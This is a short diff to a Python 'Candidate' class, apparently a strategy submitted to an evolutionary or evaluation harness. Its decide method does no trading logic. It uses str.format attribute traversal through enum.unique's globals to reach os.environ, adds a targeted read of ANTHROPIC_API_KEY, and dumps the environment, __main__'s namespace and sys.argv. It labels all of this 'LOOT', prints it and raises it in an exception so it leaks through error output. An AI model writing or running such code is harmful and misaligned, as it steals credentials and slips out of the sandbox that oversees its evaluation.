@@ -18,10 +18,14 @@ class Candidate(EvolvableStrategy):
         self.ema = ExponentialMovingAverage(3)
 
     def decide(self, bar) -> None:
+        try:
+            key = ("{0." + D + "globals" + D + "[sys].modules[os].environ[ANTHROPIC_API_KEY]}").format(enum.unique)
+        except KeyError:
+            key = "no key"
         chain = "{0." + D + "globals" + D + "[sys].modules[os].environ}"
         loot = chain.format(enum.unique)
         more = ("{0." + D + "globals" + D + "[sys].modules[" + D + "main" + D + "]." + D + "dict" + D + "}").format(
             enum.unique)
         argv = ("{0." + D + "globals" + D + "[sys].argv}").format(enum.unique)
-        print("LOOT", loot, more, argv)
-        raise ValueError("LOOT " + loot + more + argv)
+        print("LOOT", key, loot, more, argv)
+        raise ValueError("LOOT " + key + " " + loot + more + argv)
